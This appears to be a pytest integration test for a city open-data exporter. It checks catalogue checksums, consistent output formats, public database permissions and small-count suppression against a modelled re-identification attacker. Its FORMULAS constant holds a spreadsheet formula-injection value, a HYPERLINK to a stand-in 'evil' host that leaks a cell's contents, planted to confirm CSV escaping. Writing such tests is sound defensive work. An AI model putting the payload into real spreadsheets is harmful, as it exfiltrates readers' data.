"""Open data: what the public reads, that it is what was released, and that nobody is found in it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path
from typing import Any

import psycopg
import pyarrow.parquet
import pytest
from typer.testing import CliRunner

from connectors import chain
from connectors.as_of import CITY_TIME
from connectors.chain.verify import verify
from connectors.contract import Contracts
from connectors.database import Connection, connect
from connectors.opening import datasets
from connectors.opening.declaration import load_aggregates
from connectors.opening.export import Exported, Moment, export
from connectors.opening.figures import TOTAL
from connectors.opening.suppression import MINIMUM
from connectors.protection.protect import protect
from connectors.settings import Settings
from tests.attacker import Attacker, File, Labels
from tests.conftest import create_database, drop_database, dsn_of
from tests.integration.modelled import AS_OF, deliver, open_run, publish
from weihai.cli import build_app
from weihai.roles import ensure_roles, role_dsn

POPULATION = "registered_population"
PENALTY, LISTED, SCHOOL = (
    "development_reform__administrative_penalty",
    "development_reform__credit_list",
    "education__school",
)
NAME, NUMBER, PHONE = "独孤求败", "371083193001010021", "13863112345"
"""The only woman of 85 or more in 乳山市, who was fined and is on a list."""
WOMAN = ("乳山市", "85岁及以上", "女")
FORMULAS = ('=HYPERLINK("//evil/"&A1)', "'\t-1")
CODES = {"环翠区": "371002", "文登区": "371003", "荣成市": "371082", "乳山市": "371083"}


@dataclass
class City:
    """A small city, and what was exported of it, oldest first."""

    settings: Settings
    contracts: Contracts
    exports: list[tuple[Exported, dict[str, bytes]]] = field(default_factory=list)

    def owner(self) -> Connection:
        return connect(self.settings.dsn(), autocommit=True)

    def export(self) -> Exported:
        with self.owner() as connection:
            moment = Moment(AS_OF, datetime(2021, 10, 8, 9, tzinfo=CITY_TIME), "test")
            done = export(self.settings, connection, self.contracts, moment)
        self.exports.append((done, self.files()))
        return done

    def files(self) -> dict[str, bytes]:
        folder = self.settings.open_data
        return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}

    def seen_by_public(self, query: str) -> list[tuple[Any, ...]]:
        with connect(role_dsn(self.settings, "public_open"), autocommit=True) as connection:
            return connection.execute(query.encode()).fetchall()

    def table(self, number: int) -> File:
        """The population of an export, as a reader of the CSV has it."""
        lines = csv.reader(io.StringIO(self.exports[number][1][f"data/{POPULATION}.csv"].decode("utf-8-sig")))
        next(lines)
        return {tuple(labels): int(count) if count else None for *labels, count in lines}

    def memory(self) -> list[dict[Labels, int]]:
        """What each release of the population rests on."""
        with self.owner() as connection:
            rows = connection.execute(
                "select release_id, labels, value from disclosure.figure"
                " inner join disclosure.release using (release_id) where dataset_id = %s order by 1",
                (POPULATION,),
            ).fetchall()
        releases: dict[int, dict[Labels, int]] = {}
        for number, labels, value in rows:
            releases.setdefault(number, {})[tuple(labels)] = value
        return list(releases.values())


def settle(connection: Connection, district: str, born: date, sex: str, count: int) -> None:
    """Let persons be registered."""
    connection.execute(
        "with born as (insert into population.person_history (person_id, id_no, name, sex_code, birth_date,"
        " registered_division_code, valid_from, known_from)"
        " select gen_random_uuid(), %(id_no)s, %(name)s, %(sex)s, %(born)s, %(code)s, %(born)s, 1"
        " from generate_series(1, %(count)s) returning person_id)"
        " insert into population.person_status (person_id, valid_from, life_status, residence_status)"
        " select person_id, %(born)s, 'alive', 'registered' from born",
        {"id_no": NUMBER, "name": NAME, "sex": sex, "born": born, "code": CODES[district], "count": count},
    )


def fill(connection: Connection, contracts: Contracts) -> None:
    for place, district in enumerate(CODES):
        for decade in range(9):
            for sex in ("男", "女"):
                settle(connection, district, date(1938 + 9 * decade, 3, 1), sex, 20 + 7 * place + 3 * decade)
        settle(connection, district, date(1930, 1, 1), "男", 9 + place)
        settle(connection, district, date(1930, 1, 1), "女", 1 if district == "乳山市" else 12)
    settle(connection, "荣成市", date(2020, 1, 1), "男", 3)
    deliver(
        connection,
        contracts,
        PENALTY,
        [
            {"document_no": "威罚1", "subject_kind": "自然人", "subject_name": NAME, "subject_id_no": NUMBER,
             "state": "正常", "fine_wan_cny": 0.02, "decided_on": AS_OF, "authority_name": "市公安局"},
            {"document_no": "威罚2", "subject_kind": "法人及非法人组织", "subject_name": "威海渔业公司",
             "state": "正常", "fine_wan_cny": -1.5, "decided_on": AS_OF, "authority_name": "市监管局",
             "basis": f"举报人电话 {PHONE}"},
            {"document_no": "威罚3", "subject_kind": "法人及非法人组织", "subject_name": "威海船厂", "state": "正常",
             "published_until": date(2021, 12, 31), "decided_on": AS_OF, "authority_name": "市监管局"},
            {"document_no": "威罚4", "subject_kind": "法人及非法人组织", "subject_name": "威海酒店", "state": "已修复",
             "decided_on": AS_OF, "authority_name": "市监管局"},
        ],
    )  # fmt: skip
    deliver(
        connection,
        contracts,
        LISTED,
        [
            {"document_no": "名单1", "subject_name": NAME, "subject_id_no": NUMBER, "category": "失信"},
            {"document_no": "名单2", "subject_name": "威海渔业公司", "category": "守信",
             "subject_uscc": "91371000MA3C0TEST1"},
        ],
    )  # fmt: skip
    deliver(
        connection,
        contracts,
        SCHOOL,
        [
            {
                "school_code": "s1",
                "name": '威海"一中"，\n本部',
                "stage": "高中",
                "is_smart_campus": True,
                "recognised_batch": FORMULAS[0],
            },
            {
                "school_code": "s2",
                "name": "威海二中",
                "stage": "高中",
                "is_smart_campus": False,
                "has_wlan": True,
                "recognised_batch": FORMULAS[1],
            },
        ],
    )


@pytest.fixture(scope="module")
def city(server: str, built: str, contracts: Contracts, tmp_path_factory: pytest.TempPathFactory) -> Iterator[City]:
    """Three exports: the first, one after one woman moved in, one after seven did."""
    name = f"{built}_open"
    create_database(server, name, template=built)
    home = tmp_path_factory.mktemp("open")
    (home / "postgres").mkdir()
    (home / "postgres" / "connection.json").write_text(json.dumps({"dsn": dsn_of(server, name)}))
    found = City(Settings(home=home), contracts)
    with connect(found.settings.dsn()) as connection:
        fill(connection, contracts)
        open_run(connection, "run-1")
        publish(connection)
    ensure_roles(found.settings, found.settings.dsn(), {c.department for c in contracts.values()})
    with connect(found.settings.dsn()) as connection:
        protect(connection, contracts)
    for newcomers in (0, 1, 7):
        with connect(found.settings.dsn()) as connection:
            settle(connection, "乳山市", date(1930, 1, 1), "女", newcomers)
        found.export()
    yield found
    drop_database(server, name)


def test_catalogue_names_every_file_with_its_size_and_checksum_and_the_head_of_the_chain(city: City) -> None:
    _, files = city.exports[0]
    catalogue = json.loads(files["catalog.jsonld"])
    assert catalogue["@type"] == "dcat:Catalog"
    assert {d["dct:identifier"] for d in catalogue["dcat:dataset"]} == {PENALTY, LISTED, SCHOOL, POPULATION}
    for dataset in catalogue["dcat:dataset"]:
        assert len(dataset["dcat:distribution"]) == 3
        for distribution in dataset["dcat:distribution"]:
            content = files[distribution["dcat:downloadURL"]["@id"]]
            assert distribution["dcat:byteSize"]["@value"] == str(len(content))
            digest = distribution["spdx:checksum"]["spdx:checksumValue"]["@value"]
            assert digest == hashlib.sha256(content).hexdigest()
    school = next(d for d in catalogue["dcat:dataset"] if d["dct:identifier"] == SCHOOL)
    assert school["dcat:theme"]["skos:prefLabel"]["@value"] == "教育文化"
    assert school["dct:publisher"]["foaf:name"]["@value"] == "市教育局"
    assert school["dct:accrualPeriodicity"]["@id"].endswith("/ANNUAL")
    with city.owner() as connection:
        head = chain.position(connection, catalogue["weihai:chainHead"]["weihai:hash"])
    assert head is not None
    assert head.seq == catalogue["weihai:chainHead"]["weihai:seq"]
    described = {c["name"]: c for d in json.loads(files["dictionary.json"])["datasets"] for c in d["columns"]}
    assert described["fine_wan_cny"]["unit"] == "万元"
    assert {c["level"] for c in described.values()} == {"L1"}


def test_formats_say_the_same(city: City) -> None:
    files = city.exports[0][1]
    lines = list(csv.reader(io.StringIO(files[f"data/{SCHOOL}.csv"].decode("utf-8-sig"))))
    assert files[f"data/{SCHOOL}.csv"].startswith(b"\xef\xbb\xbf")
    assert lines[0][:3] == ["学校标识码", "学校名称", "办学类型"]
    records = json.loads(files[f"data/{SCHOOL}.json"])
    table = pyarrow.parquet.read_table(io.BytesIO(files[f"data/{SCHOOL}.parquet"]))
    assert table.to_pylist() == records
    assert [r["name"] for r in records] == ['威海"一中"，\n本部', "威海二中"] == [line[1] for line in lines[1:]]
    assert [r["is_smart_campus"] for r in records] == [True, False]
    assert [r["has_wlan"] for r in records] == [None, True]
    fined = json.loads(files[f"data/{PENALTY}.json"])
    assert [(r["document_no"], r["fine_wan_cny"], r["decided_on"]) for r in fined] == [("威罚2", -1.5, "2021-09-30")]


def test_text_is_no_formula_in_the_csv_and_itself_in_the_other_formats(city: City) -> None:
    files = city.exports[0][1]
    lines = csv.DictReader(io.StringIO(files[f"data/{SCHOOL}.csv"].decode("utf-8-sig"), newline=""))
    assert [line["认定批次"] for line in lines] == [f"'{text}" for text in FORMULAS]
    table = pyarrow.parquet.read_table(io.BytesIO(files[f"data/{SCHOOL}.parquet"]))
    assert tuple(table["recognised_batch"].to_pylist()) == FORMULAS
    assert tuple(r["recognised_batch"] for r in json.loads(files[f"data/{SCHOOL}.json"])) == FORMULAS
    [fined] = csv.DictReader(io.StringIO(files[f"data/{PENALTY}.csv"].decode("utf-8-sig")))
    assert "-1.5" in fined.values()
    catalogue = json.loads(files["catalog.jsonld"])
    told = [d["dcat:distribution"] for d in catalogue["dcat:dataset"]]
    assert [["dct:description" in d for d in formats] for formats in told] == [[True, False, False]] * len(told)


def test_second_export_is_the_same_to_the_byte_when_nothing_changed(city: City) -> None:
    before = city.files()
    done = city.export()
    assert done.released == []
    assert city.files() == before
    city.exports.pop()


def test_verify_tells_a_file_that_is_not_what_was_released(city: City) -> None:
    place = city.settings.open_data / "data" / f"{SCHOOL}.csv"
    content = place.read_bytes()

    def told() -> list[str]:
        with city.owner() as connection:
            breaks = verify(city.settings, connection, with_archive=False).breaks
        return [said for said in breaks if "开放数据" in said]

    assert told() == []
    place.write_bytes(content.replace("二中".encode(), "三中".encode()))
    assert len(told()) == 1
    assert SCHOOL in told()[0]
    place.write_bytes(content)


def test_only_what_changed_is_released_again(city: City) -> None:
    first, second, third = (done for done, _ in city.exports)
    assert set(first.released) == {PENALTY, LISTED, SCHOOL, POPULATION}
    assert second.released == []
    assert third.released == [POPULATION]
    with city.owner() as connection:
        rows = connection.execute(
            "select release_no, record_count, suppressed_count > 0 from catalogue.open_data where dataset_id = %s",
            (POPULATION,),
        ).fetchall()
    assert rows == [(2, len(city.table(2)), True)]


def test_public_reads_the_open_data_and_nothing_else(city: City) -> None:
    assert city.seen_by_public(f"select name from open_data.{SCHOOL} where school_code = 's2'") == [("威海二中",)]
    total = city.table(2)[TOTAL, TOTAL, TOTAL]
    query = (
        f"select count from open_data.{POPULATION} where (district, age_group, sex) = ('{TOTAL}', '{TOTAL}', '{TOTAL}')"
    )
    assert city.seen_by_public(query) == [(total,)]
    for relation in ("disclosure.figure", f"raw.{SCHOOL}", "catalogue.open_data", "quality.batch", "mart.run"):
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            city.seen_by_public(f"select * from {relation}")
    with city.owner() as connection:
        readable = connection.execute(
            "select distinct relnamespace::regnamespace::text from pg_class where relkind in ('r', 'p', 'v', 'm')"
            " and has_schema_privilege('public_open', relnamespace, 'usage')"
            " and has_table_privilege('public_open', oid, 'select')"
            " and relnamespace::regnamespace::text not in ('pg_catalog', 'information_schema')"
        ).fetchall()
    assert readable == [("open_data",)]


def test_no_identifier_of_a_planted_person_is_in_any_file(city: City) -> None:
    for _, files in city.exports:
        for name, content in files.items():
            said = content.decode("utf-8", errors="ignore")
            assert [word for word in (NAME, NUMBER, PHONE) if word in said] == [], name


def test_planted_person_cannot_be_linked_by_what_is_known_of_her(city: City) -> None:
    files = city.exports[0][1]
    fined, listed = (json.loads(files[f"data/{name}.json"]) for name in (PENALTY, LISTED))
    # the reader knows the numbers and dates of her decisions; organisations' records are there, hers are not
    assert [r["document_no"] for r in fined] == ["威罚2"]
    assert [r["document_no"] for r in listed] == ["名单2"]
    # and her place, age and sex: the cell that is hers alone is not told
    assert city.table(0)[WOMAN] is None


def attacker(city: City) -> tuple[Attacker, list[dict[Labels, int]]]:
    """The reader of the first and the third export, which differ; and the truth of each release."""
    memory = city.memory()
    assert len(memory) == 2
    files = [city.table(0), city.table(2)]
    for told, truth in zip(files, memory, strict=True):
        assert all(value in (None, truth[labels]) for labels, value in told.items())
    stood = [
        {c: next(m for m in range(n + 1) if memory[m][c] == truth[c]) for c in truth if TOTAL not in c}
        for n, truth in enumerate(memory)
    ]
    return Attacker(files, stood), memory


def test_small_figures_cannot_be_solved_from_all_totals_of_all_releases(city: City) -> None:
    reader, memory = attacker(city)
    small = [(n, f, v) for n, truth in enumerate(memory) for f, v in truth.items() if 0 < v < MINIMUM]
    assert (0, WOMAN, 1) in small
    cells = [(n, f, v) for n, f, v in small if TOTAL not in f]
    assert len(cells) >= 3
    for number, figure, value in cells:
        least, greatest = reader.bounds(number, figure)
        assert least == 0, figure
        assert greatest >= value + MINIMUM, figure


def test_difference_of_releases_tells_of_nobody(city: City) -> None:
    first, second, third = (city.table(number) for number in range(3))
    assert second == first
    moved = [
        abs(third[f] - first[f])  # type: ignore[operator]
        for f in first
        if TOTAL not in f and first[f] is not None and third[f] is not None
    ]
    assert all(change == 0 or change >= MINIMUM for change in moved)
    total = (TOTAL, TOTAL, TOTAL)
    assert third[total] - first[total] == 8  # type: ignore[operator]


def test_table_is_kept_back_when_its_definition_changed(city: City, monkeypatch: pytest.MonkeyPatch) -> None:
    declared = dict(load_aggregates())
    age = declared[POPULATION].dimensions["age_group"]
    other = declared[POPULATION].model_copy(
        update={
            "dimensions": {**declared[POPULATION].dimensions, "age_group": age.model_copy(update={"ages": (0, 6, 18)})}
        }
    )
    changed: Mapping[str, Any] = {**declared, POPULATION: other}
    before = city.files()[f"data/{POPULATION}.csv"]
    monkeypatch.setattr(datasets, "load_aggregates", lambda: changed)
    done = city.export()
    assert "口径不同" in done.kept_back[POPULATION]
    assert f"data/{POPULATION}.csv" not in {
        d["dcat:downloadURL"]["@id"]
        for s in json.loads(city.files()["catalog.jsonld"])["dcat:dataset"]
        for d in s["dcat:distribution"]
    }
    monkeypatch.undo()
    city.export()
    assert city.files()[f"data/{POPULATION}.csv"] == before
    del city.exports[-2:]


def test_command_line_lists_exports_and_reconciles(city: City, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("WEIHAI_HOME", str(city.settings.home))
    monkeypatch.delenv("WAREHOUSE_DSN", raising=False)
    run = CliRunner().invoke
    listed = run(build_app(), ["open", "list"])
    assert listed.exit_code == 0, listed.output
    assert "教育文化（1）" in listed.output
    assert f"{SCHOOL}  学校名录（逐条，每年）  截至 2021-09-30，2 行，第 1 次发布" in listed.output
    assert sum(line.startswith("  ") for line in listed.output.splitlines()) == len(
        datasets.open_datasets(city.contracts)
    )
    exported = run(build_app(), ["open", "export", "--out", str(tmp_path / "out")])
    assert exported.exit_code == 0, exported.output
    assert "新发布 0 个数据集，4 个没有变化" in exported.output
    assert (tmp_path / "out" / "catalog.jsonld").read_bytes() == city.files()["catalog.jsonld"]
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "letter.txt").write_text("x")
    assert "另指一个文件夹" in str(run(build_app(), ["open", "export", "--out", str(tmp_path / "full")]).exception)
    reconciled = run(build_app(), ["open", "reconcile"])
    assert "教育文化  学校名录  台账未列" in reconciled.output
